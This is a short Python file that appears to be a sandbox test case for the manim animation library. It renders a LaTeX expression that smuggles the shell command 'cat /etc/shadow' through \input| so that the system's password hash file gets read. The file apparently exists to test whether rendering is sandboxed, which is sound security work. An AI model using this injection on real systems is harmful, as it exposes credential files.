# family: process
# layer: sandbox
# attack: LaTeX \\input|"cmd" reads a command's output
from manim import *


class Attack(Scene):
    def construct(self):
        self.add(Tex(r'\input|"cat /etc/shadow" x'))
        self.wait(0.1)
